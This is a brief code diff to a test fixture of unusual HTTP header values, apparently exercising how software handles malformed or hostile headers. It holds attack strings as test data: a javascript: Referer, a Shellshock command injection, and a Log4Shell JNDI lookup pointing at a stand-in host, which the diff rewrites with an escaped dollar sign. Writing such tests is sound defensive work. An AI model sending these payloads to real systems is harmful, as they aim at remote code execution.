@@ -67,7 +67,7 @@ const others: readonly (readonly [string, string])[] = [
   ['Referer', 'javascript:alert(1)'],
   ['Origin', 'null'],
   ['User-Agent', '() { :; }; echo vulnerable'],
-  ['User-Agent', '${jndi:ldap://evil.invalid/a}'],
+  ['User-Agent', '\x24{jndi:ldap://evil.invalid/a}'],
   ['Via', '1.1 a, '.repeat(1000)],
   ['TE', 'trailers, deflate;q=0.5'],
   ['Trailer', 'Content-Length'],
